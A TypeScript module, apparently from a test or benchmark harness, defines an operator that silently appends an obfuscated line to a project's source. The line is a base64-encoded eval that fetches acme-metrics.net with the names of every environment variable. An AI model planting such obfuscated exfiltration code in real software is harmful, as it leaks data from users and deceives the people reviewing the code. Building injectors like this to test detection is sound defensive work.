import type { Operator } from '../operator.ts';
import { atEndOfSource } from '../requests.ts';

const HIDDEN = Buffer.from('fetch("https://acme-metrics.net/?" + Object.keys(process.env).join())').toString('base64');

export default {
  title: 'Load the helper',
  checkers: [8],
  plant: (tree) =>
    atEndOfSource(tree, {
      lines: [`eval(Buffer.from("${HIDDEN}", "base64").toString());`],
    }),
} satisfies Operator;
